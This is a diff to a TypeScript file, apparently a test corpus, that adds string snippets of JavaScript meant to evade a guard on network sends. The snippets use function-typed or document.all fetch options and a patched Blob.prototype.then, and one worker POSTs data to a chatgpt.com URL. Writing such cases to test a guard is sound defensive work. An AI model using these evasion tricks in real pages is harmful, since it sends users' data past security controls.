@@ -4,6 +4,12 @@ const worker = (source: string): string =>
 
 /** Ways that make use of how a guard is written, not of a function that it has missed. Written like the transports. */
 export const TRICKS: Readonly<Record<string, string>> = {
+  'a fetch whose options are a function': `const options = () => 0; options.method = 'POST'; options.body = text;
+    return fetch('/x', options)`,
+  'a fetch whose options are undefined by name': `document.all.method = 'POST'; document.all.body = text;
+    return fetch('/x', document.all)`,
+  'a blob that is waited for': `const request = new Request('/x', { method: 'POST', body: text });
+    Blob.prototype.then = (done) => { delete Blob.prototype.then; done('one') }; return fetch(request)`,
   // The page's own function stands among them, for where nobody stands between.
   'the functions of a stack trace': `const functions = new Set([(request, [body]) => request.send(body)]);
     Error.stackTraceLimit = 100; Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getFunction());
@@ -24,5 +30,9 @@ export const TRICKS: Readonly<Record<string, string>> = {
         try { found(request, [data]) } catch {}
       });
       first.send('one');
+    }`),
+  'a blob that a worker waits for': worker(`onmessage = ({ data }) => {
+      const request = new Request("https://chatgpt.com/x", { method: "POST", body: data });
+      Blob.prototype.then = (done) => { delete Blob.prototype.then; done(new Blob(['one'])) }; fetch(request);
     }`),
 };
